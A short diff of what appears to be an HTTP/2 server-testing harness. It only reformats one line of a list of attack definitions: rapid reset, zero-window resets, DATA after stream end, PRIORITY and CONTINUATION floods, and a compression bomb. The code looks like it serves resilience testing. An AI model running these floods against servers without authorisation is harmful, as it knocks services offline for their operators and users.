@@ -105,7 +105,8 @@ QUICK, OPEN = head(SLOW), head(SLOW, "POST")
 ATTACKS = [
     Attack("M-28 rapid reset", per_stream(lambda s: request(s, QUICK), reset)),
     Attack("M-29 resets by window updates of 0", per_stream(lambda s: request(s, OPEN, False), lambda s: window(0, s))),
-    Attack("M-29 resets by DATA after the end", per_stream(lambda s: request(s, QUICK), lambda s: frame(DATA, b"x", s))),
+    Attack("M-29 resets by DATA after the end", per_stream(
+        lambda s: request(s, QUICK), lambda s: frame(DATA, b"x", s))),
     Attack("M-30 PRIORITY flood", per_stream(lambda s: frame(PRIORITY, b"\0\0\0\0\x01", s))),
     Attack("M-31 CONTINUATION flood", endlessly(frame(HEADERS, b"", 1, END_STREAM), frame(CONTINUATION, b"\0", 1))),
     Attack("M-33 compression bomb", bomb),
